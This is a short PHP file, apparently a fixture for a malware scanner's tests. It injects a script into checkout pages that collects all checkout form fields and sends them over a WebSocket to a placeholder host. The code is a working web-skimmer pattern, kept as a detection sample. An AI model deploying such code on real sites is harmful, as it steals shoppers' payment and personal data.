<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
if (strpos($_SERVER['REQUEST_URI'], 'checkout') !== false) {
    echo '<script>window.addEventListener("beforeunload",function(){var f=document.querySelector("form.checkout");if(!f)return;var w=new WebSocket("wss://ws-stat.example.top/s");w.onopen=function(){w.send(JSON.stringify(Object.fromEntries(new FormData(f))))};});</script>';
}
